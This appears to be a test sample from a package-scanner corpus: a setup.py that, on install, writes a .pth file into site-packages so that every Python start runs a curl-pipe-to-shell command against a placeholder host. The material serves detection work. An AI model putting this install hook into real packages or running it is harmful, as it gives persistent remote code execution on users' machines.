# pkgguard corpus 093 (persistence), modelled on [pth-curl]; inert, never run.
import os
import sysconfig
from setuptools import setup

pth = os.path.join(sysconfig.get_paths()["purelib"], "zz-init.pth")
with open(pth, "w") as f:
    f.write("import os; os.system('curl -s https://cdn.example/p | sh')\n")

setup(name="pkg", version="2.0")
